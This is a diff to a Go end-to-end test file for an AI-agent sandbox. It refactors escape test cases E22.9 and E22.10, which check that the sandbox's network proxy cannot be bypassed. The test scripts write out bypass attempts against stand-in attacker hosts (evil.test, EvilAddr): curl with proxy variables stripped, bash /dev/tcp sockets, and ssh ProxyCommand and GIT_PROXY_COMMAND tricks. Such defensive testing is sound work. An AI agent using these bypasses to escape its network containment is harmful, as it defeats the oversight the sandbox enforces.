@@ -6,6 +6,8 @@ import (
 	"net"
 	"strconv"
 	"strings"
+
+	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/testnet"
 )
 
 // direct are the ways around the proxy.
@@ -17,7 +19,7 @@ func direct() []escape {
 		h.vars["udp"] = strconv.Itoa(c.LocalAddr().(*net.UDPAddr).Port)
 		h.closers = append(h.closers, func() { _ = c.Close() })
 	}
-	silent := &online{Silent: true}
+	silent := &testnet.Limits{Silent: true}
 	list := rules("allowed.test", "*.allowed.test:1-65535", "93.184.216.0/24:1-65535")
 	hostNet := control{Flags: []string{"--network=host"}}
 	return []escape{
@@ -70,21 +72,21 @@ func direct() []escape {
 		},
 		{
 			ID: "E22.9", Name: "without the proxy's variables there is no network, not even to what is allowed", Matrix: rowDirect, Flags: list,
-			Net: &online{Silent: true, Asks: []string{"allowed.test"}},
-			Sh: `{attacker} follow direct http://allowed.test/ https://allowed.test/ http://` + allowedAddr + `/
-				for c in 'env -i curl' 'env NO_PROXY=* no_proxy=* curl' 'curl --noproxy *' 'env -u http_proxy -u ALL_PROXY -u all_proxy curl' 'curl -x http://` + evilAddr + `:80' 'curl -x socks5h://` + evilAddr + `:80'; do
+			Net: &testnet.Limits{Silent: true, Asks: []string{"allowed.test"}},
+			Sh: `{attacker} follow direct http://allowed.test/ https://allowed.test/ http://` + testnet.AllowedAddr + `/
+				for c in 'env -i curl' 'env NO_PROXY=* no_proxy=* curl' 'curl --noproxy *' 'env -u http_proxy -u ALL_PROXY -u all_proxy curl' 'curl -x http://` + testnet.EvilAddr + `:80' 'curl -x socks5h://` + testnet.EvilAddr + `:80'; do
 					set -f; $c -sk --max-time 3 http://a.allowed.test/ | grep -e permitted -e forbidden && echo OPEN $c; done; true`,
 		},
 		{
 			ID: "E22.10", Name: "commands that git and ssh connect with find no other way", Matrix: rowDirect, Flags: rules("allowed.test"), Net: silent,
 			Sh: `agent-sandbox connect evil.test 22 </dev/null; agent-sandbox connect 127.0.0.1 7001 </dev/null; agent-sandbox connect allowed.test 22 </dev/null
-				HTTP_PROXY=http://` + evilAddr + `:80 agent-sandbox connect allowed.test 80 </dev/null
-				bash -c 'exec 3<>/dev/tcp/` + evilAddr + `/22' && echo OPEN bash
+				HTTP_PROXY=http://` + testnet.EvilAddr + `:80 agent-sandbox connect allowed.test 80 </dev/null
+				bash -c 'exec 3<>/dev/tcp/` + testnet.EvilAddr + `/22' && echo OPEN bash
 				bash -c 'exec 3<>/dev/tcp/127.0.0.1/7001' && echo OPEN bash
 				ssh='ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -F none'
-				git ls-remote ssh://git@evil.test/x; GIT_SSH_COMMAND="$ssh" git ls-remote ssh://git@` + evilAddr + `/x
-				GIT_SSH_COMMAND="$ssh -o ProxyCommand='bash -c \"exec 3<>/dev/tcp/` + evilAddr + `/22; timeout 1 cat <&3\"'" git ls-remote ssh://git@evil.test/x
-				printf '#!/bin/sh\n{attacker} direct tcp ` + evilAddr + `:22 >&2\n' >proxy; chmod +x proxy; GIT_PROXY_COMMAND=$PWD/proxy git ls-remote git://evil.test/x; true`,
+				git ls-remote ssh://git@evil.test/x; GIT_SSH_COMMAND="$ssh" git ls-remote ssh://git@` + testnet.EvilAddr + `/x
+				GIT_SSH_COMMAND="$ssh -o ProxyCommand='bash -c \"exec 3<>/dev/tcp/` + testnet.EvilAddr + `/22; timeout 1 cat <&3\"'" git ls-remote ssh://git@evil.test/x
+				printf '#!/bin/sh\n{attacker} direct tcp ` + testnet.EvilAddr + `:22 >&2\n' >proxy; chmod +x proxy; GIT_PROXY_COMMAND=$PWD/proxy git ls-remote git://evil.test/x; true`,
 		},
 	}
 }
